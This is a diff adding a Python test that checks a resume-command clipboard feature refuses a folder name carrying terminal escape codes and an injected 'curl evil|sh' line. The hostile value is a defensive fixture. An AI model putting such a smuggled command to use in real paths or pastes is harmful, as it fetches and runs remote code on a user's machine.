@@ -144,6 +144,19 @@ def test_a_session_that_is_over_is_resumed_with_a_command_from_the_clipboard(act
     assert outcome.said == [("Copied to clipboard: resume command for Ship it", "cd /srv/api && claude --resume a1")]
 
 
+def test_a_folder_whose_name_acts_on_a_terminal_is_not_copied() -> None:
+    outcome = after(CopyResume(KEY), status="crashed", cwd="/srv/\x1b[201~\x03\ncurl evil|sh\n")
+    assert outcome.desk.copied == []
+    assert outcome.said == [
+        (
+            "Could not copy the resume command",
+            "The name of the folder of api has characters that act on a terminal. "
+            "Go to the folder yourself, then run `claude --resume a1`.",
+        )
+    ]
+    assert outcome.signs == ["error"]
+
+
 def test_without_a_clipboard_the_command_is_shown() -> None:
     assert after(Jump(KEY), Desk(bare=True), status="crashed").said == [
         ("Resume command for Ship it", "cd /srv/api && claude --resume a1\n(no clipboard)")
